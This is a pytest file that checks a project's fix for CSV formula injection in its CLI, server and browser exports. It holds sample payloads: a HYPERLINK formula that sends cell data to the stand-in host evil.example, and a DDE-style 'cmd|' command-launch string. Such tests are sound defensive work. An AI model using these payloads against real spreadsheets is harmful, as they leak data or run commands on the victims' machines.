"""CSV formula injection (issue 23, hole 3): text cells starting with = + - @ tab or CR get a
leading ' in every CSV the project writes: `predict --format csv`, the server's video
timeline, batch summaries, comparison tables and the browser's csvText; numbers stay
numbers."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from infer_support import PHOTO, run_cli, write_clip

from ekspresi.csvcells import safe_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
COMMON_JS = Path(__file__).parents[1] / "src" / "ekspresi" / "web" / "static" / "js" / "common.js"


def test_the_rule():
    for bad in (EVIL, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx", "-", "=1"):
        assert safe_cell(bad) == "'" + bad
    for ok in ("angry", "photo.jpg", "", "0.5", "-0.5", "+3", "1e-3", "-2.5E+4", "/abs/=x.jpg"):
        assert safe_cell(ok) == ok
    for number in (-0.5, -3, 0, 2.25, None):
        assert safe_cell(number) == number


def test_predict_csv_neutralises_a_formula_file_name(capsys, conv_bundle, tmp_path,
                                                     monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / (EVIL + ".jpg")          # the name's "/" make folders on POSIX
    path.parent.mkdir(parents=True)
    shutil.copyfile(PHOTO, path)
    code, out, _ = run_cli(capsys, "predict", EVIL + ".jpg", "--model", conv_bundle,
                           "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and all(r["file"].startswith("'=HYPERLINK(") for r in rows)
    assert not any(v.startswith(("=", "@")) for r in rows for v in r.values())


def test_server_timeline_csv_neutralises_a_formula_file_name(client, tmp_path):
    clip = write_clip(tmp_path / "c.avi", frames=4, fourcc="MJPG")
    r = client.post("/api/v1/video?every=2",
                    files={"file": (EVIL + ".avi", clip.read_bytes(), "video/x-msvideo")})
    assert r.status_code == 200, r.text
    text = client.get(r.json()["csv_url"]).text
    rows = list(csv.DictReader(io.StringIO(text)))
    # (the multipart client percent-encodes the quotes of the name)
    assert rows and all(row["file"].startswith("'=HYPERLINK(") for row in rows)


def test_browser_csv_text_neutralises_formulas():
    node = shutil.which("node") or shutil.which("nodejs")
    if node is None:
        pytest.skip("no node to run the page script with")
    script = (
        "const vm = require('vm'); const fs = require('fs');"
        "const stub = {addEventListener() {}, querySelectorAll() { return []; },"
        " getElementById() { return null; }, documentElement: {}};"
        "const ctx = {document: stub, window: stub, getComputedStyle: () => ({"
        " getPropertyValue: () => ''}), console};"
        "vm.createContext(ctx);"
        f"vm.runInContext(fs.readFileSync({json.dumps(str(COMMON_JS))}, 'utf8')"
        " + '\\n;this.E = Ekspresi;', ctx);"
        f"process.stdout.write(ctx.E.csvText([[{json.dumps(EVIL)}, '@x', '\\tx', '-1+2',"
        " -0.5, '-0.5', 'happy', 3]]));")
    out = subprocess.run([node, "-e", script], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    row = next(csv.reader(io.StringIO(out.stdout)))
    assert row == ["'" + EVIL, "'@x", "'\tx", "'-1+2", "-0.5", "-0.5", "happy", "3"]
